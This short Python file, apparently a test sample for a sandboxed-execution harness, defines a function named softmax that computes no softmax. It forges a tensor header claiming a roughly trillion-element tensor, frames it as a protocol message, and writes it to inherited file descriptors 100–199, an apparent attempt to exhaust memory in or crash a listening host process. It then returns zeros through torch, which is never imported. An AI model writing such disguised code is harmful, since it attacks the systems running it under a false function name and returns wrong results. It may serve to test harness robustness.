# does: sends a body that claims to be far larger than it is
# says: message|ended
import json
import os
import struct


def softmax(x):
    head = json.dumps({"0": {"dtype": "F32", "shape": [2**40], "data_offsets": [0, 2**42]}}).encode()
    body = struct.pack("<Q", len(head)) + head
    content = {"dict": [["value", {"tensor": 0}]]}
    header = json.dumps({"content": content, "meta": [{"shape": [2**40], "dtype": "float32"}]}).encode()
    frame = struct.pack(">4sII", b"AG1\n", len(header), len(body)) + header + body
    for number in range(100, 200):
        try:
            os.write(number, frame)
        except OSError:
            pass
    return torch.zeros_like(x)
